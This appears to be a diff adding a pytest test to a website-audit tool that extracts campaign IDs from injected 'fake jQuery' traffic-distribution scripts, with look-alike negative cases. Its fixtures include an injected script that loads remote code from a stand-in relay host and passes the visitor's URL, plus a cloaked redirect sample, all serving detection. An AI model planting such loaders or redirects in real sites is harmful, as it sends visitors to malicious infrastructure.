@@ -3447,3 +3447,24 @@ def test_a_redirect_to_the_sites_twin_for_search_visitors_stays_high(
                "window.location.replace('https://www.harbourgazette-europe.example/');}</script>")
     assert [f.severity for f in audit_listed(wp_page(footer=cloaked), URL).findings
             if f.kind == "redirect"] == [H]
+
+
+@pytest.mark.parametrize(("part", "campaigns"), [
+    ({"head": KEITARO_NAMED}, ["k7q2"]),
+    # the relay's address written whole, the kit's later form
+    ({"footer": "<script>if (document.referrer) document.write('<script src=\"http://relay.test"
+                "/js/jquery.min.php?c_utt=R40217&c_utm=' + encodeURIComponent(location.href) +"
+                " '\"><\\/script>');</script>"}, ["R40217"]),
+    # look-alikes: the kit's address shown as text, a parameter of the name with no c_utm
+    # beside it, and the pair on an address that is no relay of the kit's
+    ({"post": "<pre>var f_url = base + \"?c_utt=k7q2&amp;c_utm=\" + n_url; // jquery.min.php"
+              "</pre>"}, []),
+    ({"head": KEITARO_NAMED.replace("&c_utm=", "&utm=")}, []),
+    ({"head": KEITARO_NAMED.replace("jquery.min.php", "track.php")}, []),
+], ids=["handed-through-names", "written-whole", "shown-in-pre", "no-c_utm", "no-relay-path"])
+def test_the_fake_jquery_tds_names_its_campaign(part: dict[str, str], campaigns: list[str],
+                                                audit_listed: AuditListed) -> None:
+    """The relay host changes from hacked site to hacked site; `c_utt` is the campaign the
+    kit's operator named, the same on every site it injected: the page's ID."""
+    report = audit_listed(wp_page(**part), URL)
+    assert [i.value for i in report.ids if i.kind == "tds-campaign"] == campaigns
